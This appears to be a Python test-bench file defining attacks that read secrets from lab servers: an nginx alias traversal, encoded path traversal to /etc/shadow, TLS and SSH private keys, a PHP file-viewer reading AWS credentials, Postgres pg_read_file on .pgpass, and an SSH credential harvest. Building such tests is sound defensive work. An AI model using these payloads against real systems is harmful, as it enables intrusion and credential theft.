# SPDX-License-Identifier: GPL-2.0
"""Quiet reads: one request, one file that was never read."""

from bench.attacks.attack import Attack
from bench.clients import shell, sql, web
from bench.net import INTRUDER


class Read(Attack):
    """One file with a word in it."""

    word = ""
    is_quiet = True

    def damaged(self):
        return self.secret(self.word) in self.loot


class Nginx(Read):
    """An alias without its slash; everybody on the machine may read the file, but nobody outside of it."""

    name = "read-nginx-alias"
    servers = ("nginx",)
    word = "backup"

    def run(self):
        self.loot = web.get("/media../private/backup.env", source=INTRUDER)[1]


class Traversal(Read):
    """A path that leads out of the daemon's directory."""

    servers = ("app",)
    path = ""

    def run(self):
        self.loot = web.get("/files/..%2f..%2f.." + self.path.replace("/", "%2f"), 8000, INTRUDER)[1]


class Shadow(Traversal):
    """The passwords of the machine."""

    name = "read-app-shadow"
    path = "/etc/shadow"

    def damaged(self):
        return b"alice:$6$" in self.loot


class TlsKey(Traversal):
    """The private key of the machine's certificate."""

    name = "read-app-tls-key"
    path = "/etc/ssl/private/site.key"
    word = "tls"


class SshKey(Traversal):
    """Root's key for other machines."""

    name = "read-app-ssh-key"
    path = "/root/.ssh/id_ed25519"
    word = "key"


class PhpFile(Read):
    """A page that shows any file."""

    name = "read-php-file"
    servers = ("php", "nginx")
    word = "backup"

    def run(self):
        self.loot = web.get("/view.php?f=/srv/private/backup.env", source=INTRUDER)[1]


class PhpCloud(Read):
    """The same, and the credentials that the web server's user has for a cloud."""

    name = "read-php-cloud"
    servers = ("php", "nginx")
    word = "cloud"

    def run(self):
        self.loot = web.get("/view.php?f=/var/www/.aws/credentials", source=INTRUDER)[1]


class PostgresFile(Read):
    """A file of the server's machine, by SQL."""

    name = "read-postgres-file"
    servers = ("postgresql",)
    word = "pgpass"

    def run(self):
        self.loot = str(sql.once("SELECT pg_read_file('/var/lib/postgresql/.pgpass')", INTRUDER)).encode()


class SshHarvest(Read):
    """A stolen key, and the credentials of its owner for other places."""

    name = "read-ssh-credentials"
    servers = ("sshd",)
    word = "alice"
    patience = 60

    def run(self):
        self.loot = shell.login("alice", "cat .aws/credentials .ssh/id_* .pgpass 2>/dev/null; true", INTRUDER).encode()


ATTACKS = [Nginx, Shadow, TlsKey, SshKey, PhpFile, PhpCloud, PostgresFile, SshHarvest]
